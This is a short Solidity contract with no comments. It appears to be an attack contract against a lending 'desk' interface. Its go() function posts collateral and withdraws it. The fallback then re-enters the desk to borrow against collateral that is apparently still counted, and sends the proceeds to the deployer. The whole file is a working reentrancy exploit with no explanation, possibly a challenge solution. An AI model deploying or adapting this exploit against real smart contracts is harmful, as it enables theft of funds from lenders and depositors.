pragma solidity 0.5.17;

interface IDesk {
    function post() external payable;
    function borrow(uint256 amount) external;
    function withdrawCollateral(uint256 amount) external;
}

contract Borrower {
    IDesk private desk;
    address payable private boss;
    bool private inside;

    constructor(IDesk _desk) public {
        desk = _desk;
        boss = msg.sender;
    }

    function go() external payable {
        desk.post.value(msg.value)();
        inside = true;
        desk.withdrawCollateral(msg.value);
        boss.transfer(address(this).balance);
    }

    function() external payable {
        if (inside) {
            inside = false;
            desk.borrow(msg.value / 2);
        }
    }
}
